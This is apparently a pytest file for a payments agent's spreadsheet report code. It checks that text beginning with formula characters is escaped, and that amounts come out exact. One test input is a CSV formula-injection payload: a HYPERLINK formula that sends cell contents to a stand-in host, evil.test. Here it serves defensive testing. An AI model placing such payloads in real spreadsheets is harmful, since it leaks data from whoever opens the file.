"""Reports for spreadsheets: whatever a seller or a task is called, no cell becomes a formula, and sums stay exact."""

import csv
from io import StringIO
from typing import Any

import pytest

from agent.policy_file import parse
from agent.report import Line
from agent.sheets import receipts_sheet, sheet, spending_rows, spending_sheet
from tests.fakes.buyer_chain import NETWORK, TOKEN
from tests.fakes.seller import policy

POLICY = parse(policy())


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(StringIO(text, newline="")))


def line(key: str = "research", asset: str = TOKEN, settled: int = 1_250_000) -> Line:
    return Line(key=key, network=NETWORK, asset=asset, purchases=3, settled=settled, open=1)


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_no_cell_is_a_formula(first: str) -> None:
    """A task's name, or a seller's word, is shown by whoever opens the file."""
    hostile = f"{first}HYPERLINK(\"http://evil.test/?\"&A1,'x')"
    (row,) = read(sheet(("a", "b"), [{"a": hostile, "b": "fine"}]))
    assert row == {"a": f"'{hostile}", "b": "fine"}
    (spent,) = read(spending_sheet([line(hostile)], POLICY))
    assert spent["key"] == f"'{hostile}"


@pytest.mark.parametrize("text", ['a,"b"\nc', "a;b", "'=1", " =1", "", '"', "0xabc"])
def test_what_is_no_formula_comes_back_as_it_was(text: str) -> None:
    (row,) = read(sheet(("a", "b"), [{"a": text, "b": None}]))
    assert row == {"a": text, "b": ""}


def test_spending_is_told_in_units_and_exactly_in_atomic_units() -> None:
    big = 10**24 + 1
    known, unknown = read(spending_sheet([line(), line(asset="0x" + "11" * 20, settled=big)], POLICY))
    assert (known["paid"], known["paid_atomic"], known["open"], known["open_atomic"]) == (
        "1.25", "1250000", "0.000001", "1",
    )  # fmt: skip
    assert (known["symbol"], known["purchases"]) == ("USDC", "3")
    assert (unknown["paid"], unknown["paid_atomic"], unknown["symbol"]) == ("", str(big), "")
    (told,) = spending_rows([line()], POLICY)
    assert (told["settled"], told["paid_units"], told["open_units"]) == (1_250_000, "1.25", "0.000001")
    assert spending_rows([line()], None)[0]["paid_units"] is None


def receipt(**changes: Any) -> dict[str, Any]:
    texts = ("kept_at", "receipt_id", "purchase_id", "order_id", "status", "proof", "mode", "pay_to", "contract")
    texts += ("action", "settlement", "callback", "refund", "body_hash", "body_size", "body_type", "detail")
    given = dict.fromkeys(texts, "x") | {"network": NETWORK, "asset": TOKEN, "amount": "50000", "charged": None}
    return given | changes


def test_receipts_have_a_row_each_with_what_a_metered_call_cost() -> None:
    metered, plain, free = read(
        receipts_sheet([receipt(charged="20000"), receipt(detail="=1"), receipt(asset=None, network=None)], POLICY)
    )
    assert (metered["amount"], metered["charged"], metered["charged_atomic"]) == ("0.05", "0.02", "20000")
    assert (plain["amount_atomic"], plain["charged"], plain["charged_atomic"], plain["detail"]) == (
        "50000", "", "", "'=1",
    )  # fmt: skip
    assert (free["amount"], free["amount_atomic"], free["asset"]) == ("", "50000", "")
